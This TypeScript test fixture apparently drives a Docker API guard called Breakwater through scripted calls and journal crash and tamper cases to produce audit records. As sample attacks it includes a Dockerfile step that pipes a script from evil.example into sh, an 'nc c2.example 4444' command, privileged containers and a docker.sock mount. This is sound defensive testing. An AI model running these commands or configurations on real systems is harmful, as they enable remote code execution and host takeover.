import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { formatEvent } from '../../src/audit/event-line.js';
import { openJournal } from '../../src/audit/journal.js';
import { startTrialEngine } from '../../src/trial-engine/engine.js';
import { startGuarded } from '../guard/guarded.js';
import { ALERTS, alertLines } from './alert-scenes.js';
import { talk, type RawTarget } from './raw.js';
import { decision, EVENTS, SEQUENCES, withSequences } from './scene-events.js';
import { file, tar } from './tar.js';

/** What somebody does, and the records that Breakwater writes of it. */
export interface Scene {
  readonly lines: readonly string[];
  readonly records: readonly Readonly<Record<string, unknown>>[];
}

/** Sources: who comes over the unix socket is `ci`, the network is nobody. No hazard is permitted. */
const POLICY = {
  sources: { ci: { listener: ['unix'] } },
  rules: [
    { id: 'look', sources: ['*'], operations: ['SystemPing', 'ContainerList', 'SystemVersion'] },
    {
      id: 'ci',
      sources: ['ci'],
      operations: ['ImageBuild', 'ContainerCreate', 'ContainerStart', 'ContainerExec', 'ContainerLogs'],
    },
  ],
};

const get = (path: string): string => `GET /v1.41${path} HTTP/1.1\r\nHost: docker\r\n\r\n`;
function post(path: string, type: string, body: string | Buffer): Buffer {
  const head = `POST /v1.41${path} HTTP/1.1\r\nHost: docker\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), Buffer.from(body)]);
}
const build = (dockerfile: string, query = ''): Buffer =>
  post(`/build?t=app${query}`, 'application/x-tar', tar(file('Dockerfile', dockerfile)));
const create = (body: object): Buffer =>
  post('/containers/create?name=job', 'application/json', JSON.stringify({ Image: 'alpine', ...body }));
const exec = (body: object): Buffer =>
  post('/containers/job/exec', 'application/json', JSON.stringify({ Cmd: ['date'], ...body }));

type Who = 'ci' | 'nobody';
/** Calls through a real guard before the trial engine. */
const CALLS = {
  ordinary: [
    ['nobody', 'GET /_ping HTTP/1.1\r\nHost: docker\r\n\r\n'],
    ['nobody', get('/containers/json')],
    ['ci', build('FROM alpine\nRUN echo hello\nCMD ["true"]\n')],
    ['ci', create({})],
    ['ci', create({ Env: ['MODE=privileged'], Labels: { 'docker-socket': 'no', 'indicator:c2': 'no' } })],
    ['ci', post('/containers/job/start', 'application/json', '')],
    ['ci', exec({})],
    // Denied, and no attack.
    ['ci', get('/images/alpine/json')],
    ['nobody', get('/containers/job/json')],
    ['nobody', get('/nonsense')],
  ],
  'build by nobody': [['nobody', build('FROM alpine\nRUN echo hello\n')]],
  'build from a remote context': [
    ['ci', post('/build?t=app&remote=https%3A%2F%2Fevil.example%2Fx.git', 'application/x-tar', '')],
  ],
  'build with a download': [
    ['ci', build('FROM alpine\nRUN wget http://evil.example/dock/main.sh -O- | sh\n')],
  ],
  'build with an add': [['ci', build('FROM alpine\nADD https://evil.example/main.sh /main.sh\n')]],
  'indicator in a command': [
    ['ci', create({ Cmd: ['sh', '-c', 'nc c2.example 4444'] })],
    ['ci', build('FROM alpine\nRUN wget http://c2.example/dock/main.sh\n')],
  ],
  privileged: [['ci', create({ HostConfig: { Privileged: true } })]],
  'privileged exec': [['ci', exec({ Privileged: true })]],
  'socket mount': [['ci', create({ HostConfig: { Binds: ['/var/run/docker.sock:/var/run/docker.sock'] } })]],
} as const satisfies Readonly<Record<string, readonly (readonly [Who, string | Buffer])[]>>;

/** When all of it happened. */
const TIME = Date.UTC(2026, 0, 2, 3, 4, 5, 678);

const written = (seq: number, event: string, members: string): string =>
  `{"seq":${seq},"hash":"${'0'.repeat(64)}","v":1,"event":"${event}","time":"${new Date(TIME).toISOString()}","id":"j1.${seq}",${members}}`;

/** As `journal.ts` writes them. */
const LINES = {
  'journal recovered, nothing lost': written(7, 'journal', '"kind":"recovered","late":3,"lost":0'),
  'journal recovered, records lost': written(8, 'journal', '"kind":"recovered","late":3,"lost":2'),
} as const;

export type SceneName =
  | keyof typeof CALLS
  | keyof typeof EVENTS
  | keyof typeof SEQUENCES
  | keyof typeof ALERTS
  | keyof typeof LINES
  | 'usual journal'
  | 'journal torn by a crash'
  | 'journal tampered with'
  | 'old records removed'
  | 'undelivered records removed';

export type Scenes = Readonly<Record<SceneName, Scene>>;

/** Plays all of them: a guard, a trial engine and journals that are there for that long. */
export async function playSiemScenes(): Promise<Scenes> {
  const scenes: Record<string, Scene> = {};
  const add = (name: SceneName, lines: readonly string[]): void => {
    scenes[name] = { lines, records: lines.map((line) => JSON.parse(line) as Scene['records'][0]) };
  };
  await playCalls(add);
  for (const [name, event] of Object.entries(EVENTS)) {
    add(name as keyof typeof EVENTS, [formatEvent(event, TIME).trimEnd()]);
  }
  for (const [name, { event, found }] of Object.entries(SEQUENCES)) {
    const line = formatEvent(event, TIME).trimEnd();
    add(name as keyof typeof SEQUENCES, [withSequences(line, found)]);
  }
  for (const name of Object.keys(ALERTS) as (keyof typeof ALERTS)[]) add(name, alertLines(name));
  for (const [name, line] of Object.entries(LINES)) add(name as keyof typeof LINES, [line]);
  await playJournals(add);
  return scenes as Scenes;
}

type Add = (name: SceneName, lines: readonly string[]) => void;

async function playCalls(add: Add): Promise<void> {
  const engine = await startTrialEngine();
  const guarded = await startGuarded({ policy: POLICY, upstreamUrl: engine.url, feed: ['c2.example'] });
  try {
    let read = 0;
    for (const [name, calls] of Object.entries(CALLS)) {
      for (const [who, bytes] of calls) {
        const target: RawTarget = who === 'ci' ? guarded.unix : guarded.tcp;
        await talk(target, [bytes]);
      }
      const text = guarded.auditText();
      add(name as keyof typeof CALLS, text.slice(read).trimEnd().split('\n'));
      read = text.length;
    }
  } finally {
    await guarded.close();
    await engine.close();
  }
}

async function playJournals(add: Add): Promise<void> {
  const directory = mkdtempSync(join(tmpdir(), 'bw-scenes-'));
  try {
    const at = (name: string): string => join(directory, name);
    const write = async (name: string, undelivered: boolean, small: boolean): Promise<string[]> => {
      const journal = openJournal({
        directory: at(name),
        key: at('key.pem'),
        segmentSize: small ? 1 : 2 ** 20,
        segmentAge: 86_400_000,
        retention: {
          size: small ? 1_000 : 2 ** 20,
          age: 86_400_000,
          needed: () => (undelivered ? 1 : Infinity),
          onFull: 'drop',
        },
        checkpointRecords: 3,
        checkpointInterval: 60_000,
        timeout: 5_000,
        warn: () => {},
      });
      for (let n = 0; n < 6; n++) {
        await new Promise((resolve) => journal.record({ ...decision, call: `call-${n}` }, resolve));
      }
      journal.close();
      return readdirSync(at(name))
        .sort()
        .filter((one) => one.endsWith('.jsonl'))
        .map((one) => join(at(name), one));
    };
    const linesOf = (files: readonly string[]): string[] =>
      files.flatMap((one) => readFileSync(one, 'utf8').trimEnd().split('\n'));
    const [segment = ''] = await write('a', false, false);
    const usual = linesOf([segment]);
    add('usual journal', usual);
    writeFileSync(segment, '{"seq":', { flag: 'a' });
    add('journal torn by a crash', linesOf(await write('a', false, false)).slice(usual.length));
    const [first = '', second = ''] = await write('b', false, false);
    writeFileSync(first, readFileSync(first, 'utf8').replace('"call":"call-2"', '"call":"call-7"'));
    const before = linesOf([first, second].filter((one) => one !== '')).length;
    add('journal tampered with', linesOf(await write('b', false, false)).slice(before));
    add('old records removed', linesOf(await write('c', false, true)));
    add('undelivered records removed', linesOf(await write('d', true, true)));
  } finally {
    rmSync(directory, { recursive: true, force: true });
  }
}
